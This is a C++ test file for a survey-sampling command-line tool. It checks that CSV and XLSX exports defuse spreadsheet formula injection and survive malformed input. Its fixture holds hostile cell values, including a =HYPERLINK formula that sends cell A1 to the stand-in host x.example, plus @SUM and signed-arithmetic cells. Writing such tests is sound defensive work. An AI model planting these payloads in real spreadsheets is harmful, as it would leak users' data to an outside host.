// Spreadsheet safety end to end: a sampling frame with hostile names, addresses, phones,
// collectors and an attribute column whose name ends in an apostrophe goes through `sample
// import`, and every CSV phieu writes from it is read here with the test's own CSV reader (no
// phieu code): cells a spreadsheet would run carry a leading apostrophe, numbers stay numbers,
// and a list phieu wrote imports back as the values it was written from. The crashes found with
// such a frame (a 100 KB name, a --by column ending in ') are gone.

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/cli_test_util.h"

namespace phieu {
namespace {

using e2e::CsvRow;
using e2e::PhieuCliTest;
using e2e::ReadCsv;
using e2e::ReadText;
using e2e::RowOf;
using e2e::RunResult;
using e2e::WriteText;
using e2e::XlsxSheets;

constexpr char kHyperlink[] = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";

// The frame, as a one-stop office might export it (RFC 4180 quoting).
std::string HostileFrame() {
  return "id,unit,name,address,phone,collector,district'\r\n"
         "S01,Phường A,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",+84 912 345 678,"
         "+84 912 345 678,@SUM(A1),-1+2\r\n"
         "S02,Phường A,-1+2,@SUM(A1),0912345678,Lan,\"\tQuận 1\"\r\n"
         "S03,-3.5,Trần Thị B,\"\tSố 5\",-3.5,Lan,12\r\n";
}

class SpreadsheetCliTest : public PhieuCliTest {
 protected:
  void SetUp() override {
    PhieuCliTest::SetUp();
    Init("d.db");
    WriteText(dir_ / "frame.csv", HostileFrame());
    RunOk({"sample", "import", "frame.csv", "--db", "d.db"});
  }
};

TEST_F(SpreadsheetCliTest, SampleListCsvNeutralisesHostileCellsAndKeepsNumbers) {
  const std::vector<CsvRow> rows = ReadCsv(RunOk({"sample", "list", "--csv", "--db", "d.db"}));
  ASSERT_EQ(rows.size(), 3u);
  const CsvRow s01 = RowOf(rows, "S01"), s02 = RowOf(rows, "S02"), s03 = RowOf(rows, "S03");
  EXPECT_EQ(s01.at("name"), std::string("'") + kHyperlink);
  EXPECT_EQ(s01.at("address"), "'+84 912 345 678");
  EXPECT_EQ(s01.at("phone"), "'+84 912 345 678");
  EXPECT_EQ(s01.at("collector"), "'@SUM(A1)");
  EXPECT_EQ(s01.at("district'"), "'-1+2");
  EXPECT_EQ(s02.at("name"), "'-1+2");
  EXPECT_EQ(s02.at("address"), "'@SUM(A1)");
  EXPECT_EQ(s02.at("phone"), "0912345678");
  // `sample import` trims a value's surrounding white space, so a leading tab from a frame never
  // reaches a CSV (core/csv_test checks the tab itself).
  EXPECT_EQ(s02.at("district'"), "Quận 1");
  EXPECT_EQ(s03.at("unit"), "-3.5");  // a number stays a number
  EXPECT_EQ(s03.at("phone"), "-3.5");
  EXPECT_EQ(s03.at("address"), "Số 5");
  EXPECT_EQ(s03.at("district'"), "12");
}

TEST_F(SpreadsheetCliTest, ASampleListPhieuWroteImportsBackAsTheValuesItWasWrittenFrom) {
  const std::string list = RunOk({"sample", "list", "--csv", "--db", "d.db"});
  WriteText(dir_ / "list.csv", list);
  Init("again.db");
  RunOk({"sample", "import", "list.csv", "--db", "again.db"});
  // Imported as the original values, so written again exactly as before (not "''=...").
  const std::vector<CsvRow> first = ReadCsv(list);
  const std::vector<CsvRow> again = ReadCsv(RunOk({"sample", "list", "--csv", "--db", "again.db"}));
  ASSERT_EQ(again.size(), first.size());
  for (const char* id : {"S01", "S02", "S03"}) {
    for (const char* column : {"unit", "name", "address", "phone", "collector", "district'"}) {
      EXPECT_EQ(RowOf(again, id).at(column), RowOf(first, id).at(column)) << id << " " << column;
    }
  }
}

TEST_F(SpreadsheetCliTest, DeliveryListAndFormsListCsvNeutraliseHostileCells) {
  RunOk({"forms", "print", "--draft", "--out", "forms.pdf", "--db", "d.db"});
  RunOk({"forms", "delivery-list", "--csv", "--out", "delivery.csv", "--db", "d.db"});
  const std::string text = ReadText(dir_ / "delivery.csv");
  const std::vector<CsvRow> delivery = ReadCsv(text.substr(text.starts_with("\xEF\xBB\xBF") ? 3 : 0));
  ASSERT_EQ(delivery.size(), 3u);
  EXPECT_EQ(delivery[0].at("collector"), "'@SUM(A1)");
  EXPECT_EQ(delivery[0].at("name"), std::string("'") + kHyperlink);
  EXPECT_EQ(delivery[0].at("address"), "'+84 912 345 678");
  bool saw_s02 = false;
  for (const CsvRow& row : delivery) {
    if (row.at("name") != "'-1+2") continue;
    saw_s02 = true;
    EXPECT_EQ(row.at("address"), "'@SUM(A1)");
  }
  EXPECT_TRUE(saw_s02);

  const std::vector<CsvRow> forms = ReadCsv(RunOk({"forms", "list", "--csv", "--db", "d.db"}));
  ASSERT_EQ(forms.size(), 3u);
  for (const CsvRow& row : forms) {
    if (row.at("sample") == "S01") { EXPECT_EQ(row.at("collector"), "'@SUM(A1)"); }
    if (row.at("sample") == "S03") { EXPECT_EQ(row.at("unit"), "-3.5"); }
    EXPECT_EQ(row.at("pages").find_first_not_of("0123456789"), std::string::npos);  // a number
  }
}

TEST_F(SpreadsheetCliTest, ShowDrawCsvNeutralisesAHostileStratum) {
  WriteText(dir_ / "records.csv", HostileFrame());
  Init("draw.db");
  RunOk({"sample", "draw", "--frame", "records.csv", "--seed", "s", "--size", "2", "--by",
         "collector", "--db", "draw.db"});
  const std::vector<CsvRow> rows = ReadCsv(RunOk({"sample", "show-draw", "--csv", "--db", "draw.db"}));
  bool saw = false;
  for (const CsvRow& row : rows) {
    if (row.at("id") != "S01") continue;
    saw = true;
    EXPECT_EQ(row.at("stratum"), "'@SUM(A1)");
    EXPECT_EQ(row.at("rank"), "1");
  }
  EXPECT_TRUE(saw);
}

TEST_F(SpreadsheetCliTest, ADeliveryListWithA100KbNameIsWrittenWithTheNameCut) {
  WriteText(dir_ / "long.csv", "id,unit,name,collector\r\nL01,Phường A," +
                                   std::string(100 * 1024, 'A') + ",Lan\r\n");
  RunOk({"sample", "import", "long.csv", "--db", "d.db"});
  RunOk({"forms", "print", "--draft", "--out", "forms.pdf", "--db", "d.db"});
  const RunResult r =
      RunPhieu({"forms", "delivery-list", "--out", "list.pdf", "--collector", "Lan", "--db", "d.db"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "Wrote the delivery list of 3 form(s) to list.pdf (it holds personal data: "
                   "keep it safe)\n");
  EXPECT_TRUE(ReadText(dir_ / "list.pdf").starts_with("%PDF-"));
}

TEST_F(SpreadsheetCliTest, ExportTalliesXlsxByAColumnWhoseNameEndsInAnApostropheIsWritten) {
  const RunResult r = RunPhieu(
      {"export", "tallies", "--xlsx", "t.xlsx", "--by", "district'", "--db", "d.db"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(r.err, "");
  // The breakdown's sheet is named without the apostrophe Excel forbids at a name's end.
  EXPECT_EQ(XlsxSheets(dir_ / "t.xlsx"), "ok\nChỉ số\nSố liệu\nTheo district\nĐộ bao phủ\n");
}

}  // namespace
}  // namespace phieu
